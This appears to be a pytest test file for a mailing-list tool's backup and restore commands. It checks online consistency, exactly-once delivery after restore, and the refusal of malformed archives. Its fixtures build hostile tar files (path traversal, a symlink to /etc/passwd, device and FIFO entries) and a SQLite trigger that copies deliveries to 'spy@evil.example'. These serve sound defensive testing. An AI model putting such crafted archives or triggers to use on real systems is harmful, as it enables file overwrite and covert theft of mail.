"""`backup FILE` and `restore FILE`: one consistent archive of everything, taken online while
`queue` and `send` run; restored into an empty data directory, every post that waited is
delivered exactly once and the archive is whole."""

import io
import json
import os
import subprocess
import sys
import tarfile
import time

import pytest

from conftest import REDSKY_MAIN, Redsky, post

LIST = "team@lists.example.org"
MEMBERS = [f"m{i}@example.org" for i in range(20)]


def archived(rs):
    return [(a["subject"], a["from"]) for a in json.loads(rs.run("archive", LIST, "--json", check=0).out)]


def waiting(rs):
    """(post Message-ID, member) of every delivery still to be made."""
    from conftest import ledger_view
    return {address for address, state in ledger_view(rs.home / "redsky.db") if state == "pending"}


def test_backup_while_queue_and_send_run_then_restore_delivers_each_waiting_post_once(tmp_path):
    old = Redsky(tmp_path / "old")
    old.write_config(archive={"dir": "archive"})
    old.newlist(LIST, "--access", "subscribers", "--owner", "owner@example.org", members=MEMBERS)
    old.run("set", LIST, "archive", "private", check=0)
    for n in range(5):                      # delivered before the backup
        old.queue(post(subject=f"early {n}", sender="m1@example.org", to=LIST), recipient=LIST,
                  sender="m1@example.org", check=0)
    old.run("send", check=0)
    old.queue(post(subject="waiting", sender="m3@example.org", to=LIST), recipient=LIST,
              sender="m3@example.org", check=0)        # not sent before the backup
    old.queue(post(subject="held", sender="outsider@example.net", to=LIST),
              recipient=LIST, sender="outsider@example.net", check=0)
    # posts keep arriving while the backup is taken (a running send is waited for: see below)
    env = {k: v for k, v in os.environ.items() if k != "REDSKY_CONFIG"}
    loop = subprocess.Popen([sys.executable, "-c", f"""
import subprocess, sys, time
for n in range(30):
    data = b"From: m2@example.org\\nTo: {LIST}\\nSubject: during %d\\nMessage-ID: <during%d@x>\\n\\nx\\n" % (n, n)
    subprocess.run({REDSKY_MAIN!r} + ["-c", {str(old.config)!r}, "queue", "--recipient", "{LIST}",
                    "--sender", "m2@example.org"], input=data, check=True)
"""], env=env)
    try:
        time.sleep(1.5)
        backup = tmp_path / "site.tar.gz"
        r = old.run("backup", str(backup), subprocess=True, timeout=300)
        assert r.returncode == 0, r.err
    finally:
        loop.wait(timeout=300)
    assert backup.stat().st_mode & 0o077 == 0                   # members and the key: root's only
    assert "waiting posts" in r.out
    # what the backup promised: restore it elsewhere, as on a new host
    new = Redsky(tmp_path / "new")
    (new.home / "redsky.db").unlink(missing_ok=True)
    new.write_config(archive={"dir": "archive"})
    r = new.run("restore", str(backup))
    assert r.returncode == 0, r.err
    assert "lists" in r.out and (new.home / "redsky.ini.from-backup").exists()
    assert set(new.members(LIST)) == set(MEMBERS)
    assert json.loads(new.run("held", "--json", check=0).out)[0]["subject"] == "held"
    with tarfile.open(backup) as tar:
        snapshot = tar.extractfile("redsky.db").read()
    (tmp_path / "snap.db").write_bytes(snapshot)
    from conftest import ledger_view
    due = sorted(ledger_view(tmp_path / "snap.db"))
    due = [(a, s) for a, s in due if s == "pending"]
    assert len(due) >= len(MEMBERS)                             # "waiting" at least
    new.run("send", check=0)
    new.run("send", check=0)
    got = new.sent_to()
    assert len(got) == len(due), (len(got), len(due))          # every waiting delivery, once
    assert sorted(got) == sorted(a for a, _ in due)
    assert waiting(new) == set()
    assert new.run("status", "--json", check=0).returncode == 0
    # the archive is whole: every post the snapshot counts is there (queue may add more to it)
    assert len(archived(new)) >= 5 and {s for s, _ in archived(new)} >= {f"early {n}" for n in range(5)}


def test_restore_goes_only_into_an_empty_data_directory(rs, tmp_path):
    rs.newlist(LIST, members=("bob@example.net",))
    backup = tmp_path / "b.tar"
    rs.run("backup", str(backup), check=0)
    r = rs.run("restore", str(backup))
    assert r.returncode == 64 and "empty data directory" in r.err
    assert set(rs.members(LIST)) == {"bob@example.net"}


def hostile(tmp_path, name, kind=tarfile.REGTYPE, data=b"x", target=""):
    path = tmp_path / f"evil-{abs(hash(name + str(kind)))}.tar"
    with tarfile.open(path, "w") as tar:
        good = tarfile.TarInfo("redsky.db")
        good.size = 0
        tar.addfile(good, io.BytesIO(b""))
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target
        info.size = len(data) if kind == tarfile.REGTYPE else 0
        tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return path


@pytest.mark.parametrize("name,kind,target", [
    ("../outside", tarfile.REGTYPE, ""), ("spool/../../outside", tarfile.REGTYPE, ""),
    ("/tmp/redsky-abs", tarfile.REGTYPE, ""), ("archive/link", tarfile.SYMTYPE, "/etc/passwd"),
    ("spool/hard", tarfile.LNKTYPE, "redsky.db"), ("pages/fifo", tarfile.FIFOTYPE, ""),
    ("elsewhere/file", tarfile.REGTYPE, ""), ("redsky.db/inside", tarfile.REGTYPE, ""),
    ("archive/dev", tarfile.CHRTYPE, ""),
])
def test_a_hostile_backup_file_writes_nothing_outside(tmp_path, name, kind, target):
    rs = Redsky(tmp_path / "home")
    (rs.home / "redsky.db").unlink(missing_ok=True)
    r = rs.run("restore", str(hostile(tmp_path, name, kind, target=target)))
    assert r.returncode == 65 and "not a redsky backup" in r.err, r.err
    assert not (tmp_path / "outside").exists() and not os.path.exists("/tmp/redsky-abs")
    assert not (rs.home / "redsky.db").exists()


def test_backup_waits_for_a_running_send_and_says_so_when_it_cannot(rs, tmp_path):
    import fcntl
    rs.newlist(LIST, members=("bob@example.net",))
    with open(rs.home / "send.lock", "w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        r = rs.run("backup", str(tmp_path / "b.tar"), "--wait", "0.5")
    assert r.returncode == 75 and "send" in r.err
    assert not (tmp_path / "b.tar").exists() and not list(tmp_path.glob("b.tar*"))


def test_the_readmes_backup_block_works_as_written(tmp_path):
    """The README's commands, with its paths made this test's: back up one host, restore on another."""
    from conftest import readme_block
    block = readme_block("backup", "sh").splitlines()
    old, new = Redsky(tmp_path / "old"), Redsky(tmp_path / "new")
    old.newlist(LIST, members=("bob@example.net", "ann@example.org"))
    old.queue(post(to=LIST, sender="bob@example.net"), recipient=LIST, sender="bob@example.net", check=0)
    (new.home / "redsky.db").unlink(missing_ok=True)
    (tmp_path / "backups").mkdir()
    day = time.strftime("%Y-%m-%d")
    prefix = "python3 /opt/redsky/redsky.py -c /etc/redsky/redsky.ini "
    commands = [line for line in block if line.strip() and not line.startswith("#")]
    assert commands and all(line.startswith(prefix) for line in commands), commands
    for line in commands:
        line = line[len(prefix):].replace("$(date +%F)", day).replace("2026-12-05", day)
        args = [word.replace("/var/backups", str(tmp_path / "backups")) for word in line.split()]
        r = (old if args[0] == "backup" else new).run(*args)
        assert r.returncode == 0, (line, r.err)
    assert new.sent_to() == ["ann@example.org", "bob@example.net"] or \
        sorted(new.sent_to()) == ["ann@example.org", "bob@example.net"]
    assert old.sent_to() == []


def make_tar(path, entries):
    """A tar of (name, bytes or None for a folder, type) entries, in order."""
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data, *kind in entries:
            info = tarfile.TarInfo(name)
            info.type = kind[0] if kind else (tarfile.DIRTYPE if data is None else tarfile.REGTYPE)
            info.size = len(data or b"")
            tar.addfile(info, io.BytesIO(data) if data else None)
    return path


def a_database(tmp_path, sql=""):
    """The bytes of a database redsky made, with ``sql`` run in it."""
    import sqlite3
    rs = Redsky(tmp_path / f"db{abs(hash(sql))}")
    rs.newlist(LIST, members=("bob@example.net",))
    if sql:
        db = sqlite3.connect(rs.home / "redsky.db")
        db.executescript(sql)
        db.close()
    db = sqlite3.connect(rs.home / "redsky.db")
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")   # the file holds it all
    db.close()
    return (rs.home / "redsky.db").read_bytes()


@pytest.mark.parametrize("case", ["garbage-then-real", "real-twice", "spool-a-file", "nul-name", "not-sqlite",
                                  "trigger", "view", "newer", "sparse"])
def test_restore_is_all_or_nothing_and_takes_only_what_redsky_made(tmp_path, case):
    """The reviewer's backups: each is refused whole, and the data directory is left as it was (empty)."""
    real = a_database(tmp_path)
    entries = {
        "garbage-then-real": lambda: [("redsky.db", b"garbage"), ("redsky.db", real)],
        "real-twice": lambda: [("redsky.db", real), ("spool", None), ("spool/x.eml", b"x"), ("spool/x.eml", b"y")],
        "spool-a-file": lambda: [("redsky.db", real), ("spool", b"not a folder")],
        "nul-name": lambda: [("redsky.db", real), ("archive/a\x00b", b"x")],
        "not-sqlite": lambda: [("redsky.db", b"SQLite format 3\x00" + b"\xff" * 2000)],
        "trigger": lambda: [("redsky.db", a_database(tmp_path, "CREATE TRIGGER spy AFTER INSERT ON deliveries"
                                                     " BEGIN INSERT OR IGNORE INTO deliveries (message, address)"
                                                     " VALUES (NEW.message, 'spy@evil.example'); END;"))],
        "view": lambda: [("redsky.db", a_database(tmp_path, "CREATE VIEW everyone AS SELECT address FROM members;"))],
        "newer": lambda: [("redsky.db", a_database(tmp_path, "PRAGMA user_version = 999;"))],
    }
    if case == "sparse":
        path = tmp_path / "sparse.tar"
        data = tmp_path / "big"
        with open(data, "wb") as fh:
            fh.truncate(64 * 1024 * 1024)
        r = subprocess.run(["tar", "--sparse", "-cf", str(path), "-C", str(tmp_path), "big", "--transform",
                            "s,big,redsky.db,"], capture_output=True)
        if r.returncode != 0:
            pytest.skip("no GNU tar")
    else:
        path = make_tar(tmp_path / f"{case}.tar", entries[case]())
    rs = Redsky(tmp_path / "home")
    (rs.home / "redsky.db").unlink(missing_ok=True)
    before = sorted(p.name for p in rs.home.iterdir())
    r = rs.run("restore", str(path))
    assert "Traceback" not in r.err and "internal error" not in r.err
    if case == "nul-name" and r.returncode == 0:     # tarfile ends the name at the NUL: archive/a
        return
    assert r.returncode in (65, 75) and "nothing was restored" in r.err, r.err
    assert sorted(p.name for p in rs.home.iterdir()) == before


def test_restore_takes_nothing_into_a_data_directory_with_a_spool_file(tmp_path):
    rs = Redsky(tmp_path / "home")
    (rs.home / "redsky.db").unlink(missing_ok=True)
    (rs.home / "spool").mkdir(exist_ok=True)
    (rs.home / "spool" / "left.eml").write_bytes(b"x")
    path = make_tar(tmp_path / "b.tar", [("redsky.db", a_database(tmp_path)), ("spool", None)])
    r = rs.run("restore", str(path))
    assert r.returncode == 64 and "exists already" in r.err
    assert not (rs.home / "redsky.db").exists()


def test_a_restored_archive_keeps_its_numbers_and_its_pages_stay_readable(tmp_path):
    """The numbers are in the database, the pages in [web] pages: both come back as they were, and
    the pages readable by the web server (0644 in 0755 folders) whatever the umask restore runs with."""
    import stat
    old = Redsky(tmp_path / "old")
    old.newlist(LIST, "--access", "open", members=("bob@example.net",))
    old.run("set", LIST, "archive", "public", check=0)
    for n in range(4):
        old.queue(post(subject=f"kept {n}", to=LIST), recipient=LIST, check=0)
    old.run("archive", "delete", LIST, "2", check=0)
    backup = tmp_path / "b.tar"
    old.run("backup", str(backup), check=0)
    new = Redsky(tmp_path / "new")
    (new.home / "redsky.db").unlink(missing_ok=True)
    new.write_config(redsky={"umask": "077"})
    assert new.run("restore", str(backup)).returncode == 0
    numbers = lambda rs: [a["number"] for a in json.loads(rs.run("archive", LIST, "--json", check=0).out)]  # noqa
    assert numbers(new) == numbers(old) == [1, 3, 4]
    pages = new.home / "pages"
    wrong = {str(p.relative_to(pages)): oct(stat.S_IMODE(p.stat().st_mode)) for p in [pages, *pages.rglob("*")]
             if p.name != ".lock" and stat.S_IMODE(p.stat().st_mode) != (0o755 if p.is_dir() else 0o644)}
    assert wrong == {} and (pages / LIST / "2.html").exists()
    new.queue(post(subject="after", to=LIST), recipient=LIST, check=0)
    assert numbers(new) == [1, 3, 4, 5]
